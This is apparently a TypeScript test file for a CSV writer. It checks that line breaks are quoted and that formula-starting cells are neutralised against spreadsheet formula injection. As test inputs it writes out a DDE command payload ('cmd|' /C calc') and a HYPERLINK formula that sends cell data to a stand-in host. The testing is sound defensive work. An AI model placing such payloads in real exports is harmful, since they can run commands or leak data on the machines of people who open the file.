import { test } from 'node:test';
import assert from 'node:assert/strict';
import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { csvStream, neutraliseFormula } from './csv-writer.ts';

const columns = [
  { key: 'id', header: 'id' },
  { key: 'value', header: 'value' },
  { key: 'n', header: 'n' },
];

/** Writes one record per value and reads the file back with a real CSV reader, as a spreadsheet import would. */
async function roundTrip(values: string[]): Promise<{ raw: string; rows: string[][] }> {
  const records = values.map((value, i) => ({ id: `r${i}`, value, n: -i }));
  const raw = await text(
    csvStream(columns, records, (error) => {
      throw error;
    }),
  );
  // relax_quotes off, strict column count: any row a stray line break opened would fail or show up here.
  const rows = parse(raw, { record_delimiter: '\r\n', relax_column_count: false }) as string[][];
  return { raw, rows };
}

function assertNoCellIsAFormula(rows: string[][]): void {
  for (const row of rows)
    for (const cell of row)
      assert.doesNotMatch(cell, /^[=+@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]|^-\D/, `${JSON.stringify(cell)} would run`);
}

test('a lone LF in a field is quoted: it cannot open a row whose first cell is a formula', async () => {
  const payload = "\n=cmd|' /C calc'!A0";
  const { raw, rows } = await roundTrip([payload, 'x\n=1+1', 'tail']);
  assert.equal(rows.length, 4, 'header and three records, no row opened by the line break');
  assert.deepEqual(rows[1], ['r0', `'${payload}`, '0']);
  assert.deepEqual(rows[2], ['r1', 'x\n=1+1', '-1'], 'a formula after a line break inside a quoted cell stays text');
  assert.deepEqual(rows[3], ['r2', 'tail', '-2']);
  assert.ok(raw.includes(`"'\n=cmd|' /C calc'!A0"`), 'the lone LF sits inside quotes');
  assertNoCellIsAFormula(rows);
});

test('a lone CR and a CRLF in a field are quoted and kept', async () => {
  const { raw, rows } = await roundTrip(['a\rb', 'a\r\nb', '\r=2+2']);
  assert.equal(rows.length, 4);
  assert.deepEqual(
    rows.slice(1).map((row) => row[1]),
    ['a\rb', 'a\r\nb', "'\r=2+2"],
  );
  assert.ok(raw.includes('"a\rb"') && raw.includes('"a\r\nb"'));
  assertNoCellIsAFormula(rows);
});

test('quotes and separators are quoted, quotes doubled', async () => {
  const values = ['a,b', 'say "hi"', '"', ',', 'plain'];
  const { raw, rows } = await roundTrip(values);
  assert.equal(rows.length, values.length + 1);
  assert.deepEqual(
    rows.slice(1).map((row) => row[1]),
    values,
  );
  assert.ok(raw.includes('"say ""hi"""'));
  assert.ok(raw.includes('\r\nr4,plain,-4\r\n'), 'a field needing nothing stays bare');
});

test('every formula start is neutralised with a leading apostrophe, the rest of the cell intact', async () => {
  const values = [
    '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
    '\tTAB',
    '\r=1',
    '\n=1',
    '\uFF1D1+1',
    '\uFF0B1',
    '\uFF0D1',
    '\uFF201',
  ];
  const { rows } = await roundTrip(values);
  assert.equal(rows.length, values.length + 1);
  assert.deepEqual(
    rows.slice(1).map((row) => row[1]),
    values.map((value) => `'${value}`),
  );
  assertNoCellIsAFormula(rows);
});

test('ordinary text, inner formula characters and our own numbers are left alone', async () => {
  const values = ['a=b', 'mail@example.com', '1-2', ' =not-at-start-after-space', ''];
  const { rows } = await roundTrip(values);
  assert.deepEqual(
    rows.slice(1).map((row) => row[1]),
    values,
  );
  assert.equal(rows[3]![2], '-2', 'a number is ours, not a formula');
  assert.equal(neutraliseFormula('safe'), 'safe');
});
